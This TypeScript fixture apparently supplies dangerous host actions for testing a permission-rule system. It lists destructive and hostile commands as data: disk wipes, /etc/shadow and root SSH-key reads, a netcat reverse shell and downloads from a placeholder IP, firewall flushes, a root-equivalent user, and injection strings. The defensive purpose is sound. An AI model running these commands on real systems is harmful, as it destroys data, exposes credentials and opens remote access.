import type { Action } from '../../domain/call.ts'
import type { HostName } from '../../domain/host.ts'

/** What nobody gets by a rule that was written from what they did, unless they did just that. */
const COMMANDS = [
  'rm -rf /',
  'rm -rf /var/lib/mysql',
  'cat /etc/shadow',
  'cat /root/.ssh/id_ed25519',
  'tar czf /tmp/x.tgz /etc',
  'chmod 4755 /bin/bash',
  'chown root /tmp/x',
  'useradd -o -u 0 x',
  'passwd root',
  'curl -o /tmp/x http://192.0.2.1/x',
  'wget http://192.0.2.1/x',
  'nc -e /bin/sh 192.0.2.1 4444',
  'bash -c id',
  'sh',
  'python3 -c 1',
  'perl -e 1',
  'find / -delete',
  'dd if=/dev/zero of=/dev/sda',
  'mkfs /dev/sda1',
  'mount /dev/sdb1 /mnt',
  'iptables -F',
  'crontab -r',
  'systemctl disable --now firewalld',
  'docker run --privileged -v /:/host alpine',
  'kubectl delete namespace default',
  'shutdown -h now',
  'env',
  'ls; rm -rf /tmp/x',
  'ls $(id)',
  'eval id',
] as const

const FILES = ['/etc/sudoers', '/etc/cron.d/x', '/root/.ssh/authorized_keys', '/usr/local/bin/x', '~/.bashrc']

/** Each of these, on a host. */
export function dangerousActions(host: HostName): readonly Action[] {
  const run = { kind: 'run', host, timeoutMs: 0, waitMs: 0 } as const
  const how = { sudo: false, createOnly: false, createDirectories: false, dryRun: false }
  return [
    ...COMMANDS.map((command) => ({ ...run, command })),
    ...COMMANDS.map((command) => ({ ...run, command, sudo: true })),
    ...FILES.map((path) => ({ kind: 'write_file', host, path, content: Buffer.alloc(0), ...how }) as const),
    { kind: 'read_file', host, path: '/etc/shadow', sudo: false, encoding: 'auto' },
    { kind: 'read_file', host, path: '/etc/shadow', sudo: true, encoding: 'auto' },
  ]
}
